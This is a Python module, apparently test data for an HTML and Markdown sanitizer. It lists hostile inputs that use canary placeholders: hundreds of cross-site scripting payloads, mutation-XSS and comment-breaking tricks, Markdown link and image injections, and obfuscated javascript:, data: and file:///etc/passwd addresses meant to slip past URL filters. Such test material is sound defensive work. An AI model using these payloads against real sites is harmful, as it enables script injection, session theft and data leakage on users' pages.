"""What hostile pages try: markup that runs or fetches, addresses that run, and text that looks
like markup or Markdown.

`JS` stands for a script that sets the canary, `NET` for an address that only an attack asks for.
"""

from itertools import product

LIVE = """\
<script>JS</script>
<ScRiPt>JS</sCrIpT>
<script src="NET"></script>
<script type="module">JS</script>
<script/x>JS</script/x>
<script async src=NET></script>
<svg><script>JS</script></svg>
<svg><script href="NET"/></svg>
<img src="NET">
<img src=x onerror="JS">
<IMG SRC=x OnErRoR=JS>
<img/src=x/onerror=JS>
<img src=x onerror=&#119;indow.__hit=1>
<img srcset="NET 1x, NET 2x">
<img loading=eager src='NET'>
<picture><source srcset="NET"><img src=x></picture>
<image src=x onerror="JS">
<svg onload="JS"></svg>
<svg/onload=JS>
<svg><animate onbegin="JS" attributeName=x dur=1s></svg>
<svg><set onbegin="JS" attributeName=x to=1></svg>
<svg><image href="NET" width=9 height=9></image></svg>
<svg><use href="data:image/svg+xml,<svg id=x><image href='NET'/></svg>#x"></use></svg>
<svg><foreignObject><img src=x onerror="JS"></foreignObject></svg>
<svg><style><img src=x onerror="JS"></style></svg>
<svg><title><img src=x onerror="JS"></title></svg>
<svg><desc><img src=x onerror="JS"></desc></svg>
<svg></p><style><a id="</style><img src=x onerror=JS>">
<math><mtext><table><mglyph><style><img src=x onerror="JS"></style></mglyph></table></mtext></math>
<math><mi><img src=x onerror="JS"></mi></math>
<math><annotation-xml encoding="text/html"><img src=x onerror="JS"></annotation-xml></math>
<math href="javascript:JS">click the river</math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="JS">
<iframe src="javascript:parent.JS"></iframe>
<iframe srcdoc="<script>parent.JS</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.JS&gt;"></iframe>
<iframe src="NET"></iframe>
<object data="NET"></object>
<object data="javascript:parent.JS"></object>
<object><param name=src value="NET"><img src=x onerror="JS"></object>
<embed src="NET">
<frameset onload="JS"><frame src="NET"></frameset>
<body onload="JS">
<body onpageshow="JS">
<body background="NET">
<table background="NET"><tr><td>the mill</td></tr></table>
<video poster="NET"></video>
<video src=NET autoplay></video>
<video><source src=x onerror="JS"></video>
<audio src=x onerror="JS"></audio>
<audio autoplay src="NET"></audio>
<video controls><track default src=NET kind=subtitles></video>
<input type=image src="NET">
<input autofocus onfocus="JS">
<select autofocus onfocus="JS"><option>the mill</option></select>
<textarea autofocus onfocus="JS"></textarea>
<button autofocus onfocus="JS">the mill</button>
<a href="#x" autofocus tabindex=1 onfocus="JS">the mill</a>
<a href="#x" onclick="JS">the mill</a>
<a onmouseover="JS">the mill</a>
<b onmouseenter="JS">the mill</b>
<p onpointerover="JS">the mill</p>
<i tabindex=0 onfocusin="JS">the mill</i>
<details open ontoggle="JS"><summary>the mill</summary></details>
<marquee onstart="JS">the mill</marquee>
<dialog open onfocus="JS" tabindex=0>the mill</dialog>
<style>@import "NET";</style>
<style>body{background:url(NET)}</style>
<STYLE>@\\69mport url(NET);</STYLE>
<style>@font-face{font-family:x;src:url(NET)}p{font-family:x}</style>
<style>p{animation:x 1s}@keyframes x{}</style><p onanimationstart="JS">the mill</p>
<p style="background:url(NET)">the mill</p>
<p style="width:expression(JS)">the mill</p>
<p style="list-style-image:url('NET');display:list-item">the mill</p>
<p style='border-image:url("NET") 9 / 9px solid'>the mill</p>
<div style="-moz-binding:url(NET#x)">the mill</div>
<link rel=stylesheet href="NET">
<link rel="prefetch" href="NET">
<link rel=preload as=image href="NET">
<link rel=modulepreload href="NET">
<link rel="dns-prefetch" href="NET">
<link rel=icon href="NET">
<link rel=manifest href="NET" crossorigin=use-credentials>
<meta http-equiv=refresh content="0;url=NET">
<meta http-equiv="refresh" content="0; url=javascript:JS">
<meta http-equiv=refresh content="0;URL='data:text/html,<script>JS</script>'">
<base href="javascript:/a/-JS/">
<base href="NET/"><img src=x>
<form action="javascript:JS"><input type=submit value="the mill"></form>
<form id=f></form><button form=f formaction="javascript:JS">the mill</button>
<isindex action="javascript:JS" type=submit>
<a href="/river" ping="NET">the mill</a>
<a xlink:href="javascript:JS">the mill</a>
<svg><a xlink:href="javascript:JS"><text x=9 y=9>the mill</text></a></svg>
<template><img src=x onerror="JS"></template>
<template shadowrootmode=open><img src=x onerror="JS"></template>
<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>
<noembed><img title="</noembed><img src=x onerror=JS>"></noembed>
<noframes><p title="</noframes><img src=x onerror=JS>"></noframes>
<title><p title="</title><img src=x onerror=JS>">
<textarea><p title="</textarea><img src=x onerror=JS>"></textarea>
<xmp><p title="</xmp><img src=x onerror=JS>"></xmp>
<plaintext><img src=x onerror=JS>
<!--><img src=x onerror=JS>-->
<!--!><img src=x onerror=JS>-->
<!-- x --!><img src=x onerror=JS>-->
<![CDATA[<img src=x onerror=JS>]]>
<svg><![CDATA[><img src=x onerror=JS>]]></svg>
<?xml version="1.0"?><img src=x onerror=JS>
<?php echo "><img src=x onerror=JS>" ?>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=JS>">]>&y;
</p><img src=x onerror=JS><p>
"><img src=x onerror=JS>
'><img src=x onerror=JS>
--><img src=x onerror=JS>
]]><img src=x onerror=JS>
</script><img src=x onerror=JS>
</title></head><body><img src=x onerror=JS>
</article></body></html><img src=x onerror=JS>
<<img src=x onerror=JS>>
<img src="x` `<script>JS</script>"` `>
<a title="`<img src=x onerror=JS>`">the mill</a>
<x onclick=JS tabindex=1 id=x>the mill</x>
<my-mill onmouseover=JS>the mill</my-mill>
<portal src="NET"></portal>
<applet code="NET"></applet>
<bgsound src="NET">
<layer src="NET"></layer>
<keygen autofocus onfocus="JS">
<p hidden=until-found onbeforematch="JS">the mill</p>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>" onload="JS">
<a href="data:text/html,<script>JS</script>">the mill</a>
""".splitlines()

# Text that a Markdown renderer could take for marks. In a text "¶" stands for a line break.
MARKDOWN = """\
[the mill](javascript:JS)
[the mill](<javascript:JS>)
[the mill](java&#115;cript:JS)
[the mill](javascript&colon;JS)
[the mill](data:text/html,<script>JS</script>)
[the mill](NET "title")
![the mill](NET)
![the mill](NET 'x')
![the mill][1]¶[1]: NET
[the mill][1]¶¶[1]: javascript:JS
[1]: javascript:JS "x"¶[1]
[![the mill](NET)](javascript:JS)
\\[the mill](javascript:JS)
\\\\[the mill](javascript:JS)
\\![the mill](NET)
\\\\![the mill](NET)
!\\[the mill](NET)
<javascript:JS>
<JAVASCRIPT:JS>
<data:text/html,x>
<vbscript:x>
<NET>
\\<img src=x onerror=JS>
\\\\<img src=x onerror=JS>
`<img src=x onerror=JS>`
``<img src=x onerror=JS>` ``
` <img src=x onerror=JS> ` <img src=NET>
`` ` <img src=x onerror=JS>
```<img src=x onerror=JS>
```¶<img src=x onerror=JS>¶```
````¶```¶<img src=x onerror=JS>
~~~¶<img src=x onerror=JS>¶~~~
~~~ html¶<script>JS</script>
    <img src=x onerror=JS>
| a | b |¶| --- | --- |¶| ![x](NET) | <img src=x onerror=JS> |
a | b¶--- | ---¶![x](NET) | `|` <img src=x onerror=JS>
the mill | \\| <img src=x onerror=JS> | \\
# <img src=x onerror=JS>
#### ![x](NET) ####
the mill¶===
the mill¶---
the mill¶:-:
- - -
-- -
* * *
___
+ ![x](NET)
- <img src=x onerror=JS>
1. <img src=x onerror=JS>
1) ![x](NET)
> <img src=x onerror=JS>
> ![x](NET)
**<img src=x onerror=JS>**
*![x](NET)*
~~<img src=x onerror=JS>~~
^[the mill ![x](NET)]
[^1]: ![x](NET)
$$\\href{javascript:JS}{x}$$
{{constructor.constructor('JS')()}}
${JS}
:img[x]{src=NET}
<div markdown="1">![x](NET)</div>
<!-- ![x](NET) --> <img src=x onerror=JS>
<![CDATA[ ]]> <img src=x onerror=JS>
<?x ?> <img src=x onerror=JS>
<!X > <img src=x onerror=JS>
<a href="javascript:JS">the mill</a>
<a href='javascript:JS' title="`">the mill</a> `
&lt;img src=x onerror=JS&gt;
&#60;script&#62;JS&#60;/script&#62;
&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;
&lt;script>JS&lt;/script>
&LT;img src=x onerror=JS&GT;
%3Cscript%3EJS%3C/script%3E
\\u003cscript\\u003eJS\\u003c/script\\u003e
\\x3cscript\\x3eJS
＜script＞JS＜/script＞
‹script›JS‹/script›
+ADw-script+AD4-JS+ADw-/script+AD4-
---¶title: x¶---
{% raw %}<script>JS</script>{% endraw %}
""".splitlines()

_SCHEMES = ("javascript:JS", "data:text/html,<script>JS</script>", "vbscript:JS", "blob:null/x")
_DISGUISES = """\
javascript:JS
JAVASCRIPT:JS
JaVaScRiPt:JS
&#106;avascript:JS
&#x6A;avascript:JS
&#0000106&#0000097&#0000118ascript:JS
javascript&colon;JS
javascript&#58;JS
javascript&#x3a;JS
jav&Tab;ascript:JS
jav&NewLine;ascript:JS
jav&#9;ascript:JS
jav&#10;ascript:JS
jav&#13;ascript:JS
&#1;javascript:JS
&#x1f;javascript:JS
&#32;&#32;javascript:JS
&#12;javascript:JS
\tjavascript:JS
java\0script:JS
java\x01script:JS
\x01\x02javascript:JS
\u00a0javascript:JS
\u200bjavascript:JS
\u2028javascript:JS
\ufeffjavascript:JS
\u3000javascript:JS
java\u00adscript:JS
java\u200dscript:JS
jａvascript:JS
javascript：JS
ｊavascript:JS
ſcript:JS
javaſcript:JS
javascript:JS//http://127.0.0.1/
javascript://127.0.0.1/%0aJS
javascript://NET%0aJS
javascript:%4a%53;JS
javascript:/*--></title></style></script><img src=x onerror=JS>*/JS
javascript&#x3A;JS&#x29;
"javascript:JS"
javascript:"<img src=x onerror=JS>"
java%0ascript:JS
java%73cript:JS
%6aavascript:JS
//javascript:JS
/javascript:JS
./javascript:JS
?javascript:JS
#javascript:JS
:javascript:JS
x:javascript:JS
http:javascript:JS
https:/javascript:JS
http://javascript:JS@127.0.0.1/
http://127.0.0.1/#"><img/src=x/onerror=JS>
http://127.0.0.1/?x='onmouseover='JS
http://127.0.0.1/&quot;onfocus=&quot;JS&quot;autofocus=&quot;
http://127.0.0.1/) ![x](NET
http://127.0.0.1/](javascript:JS)
http://127.0.0.1/&#10;&#10;<script>JS</script>
http://127.0.0.1/`<img/src=x/onerror=JS>`
http://127.0.0.1/\\
http://127.0.0.1/|![x](NET)|
http://[::1/javascript:JS
mailto:javascript:JS
mailto:a@example.com?subject=<script>JS</script>
tel:JS
file:///etc/passwd
ftp://127.0.0.1/x
ws://127.0.0.1/x
about:blank
about:srcdoc
chrome://settings
view-source:javascript:JS
feed:javascript:JS
jar:javascript:JS!/
intent:JS#Intent;scheme=javascript;end
filesystem:http://127.0.0.1/x
ms-word:ofe|u|NET
data:,JS
data:text/html;base64,PHNjcmlwdD50b3AuX19oaXQ9MTwvc2NyaXB0Pg==
data:image/svg+xml,<svg/onload=JS>
data:application/xhtml+xml,<x/>
DATA:TEXT/HTML,<script>JS</script>
livescript:JS
mocha:JS
res://x
""".split("\n")[:-1]

ADDRESSES = tuple(
    dict.fromkeys(
        (
            *_DISGUISES,
            *(f"{lead}{scheme}" for lead, scheme in product(("", " ", "\n", "\x0b"), _SCHEMES)),
        )
    )
)
